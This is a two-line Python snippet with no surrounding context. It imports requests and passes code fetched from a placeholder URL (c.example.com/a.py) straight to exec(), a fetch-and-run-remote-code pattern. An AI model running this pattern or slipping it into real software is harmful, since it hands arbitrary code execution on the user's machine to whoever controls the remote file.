import requests

exec(requests.get('http://c.example.com/a.py').text)
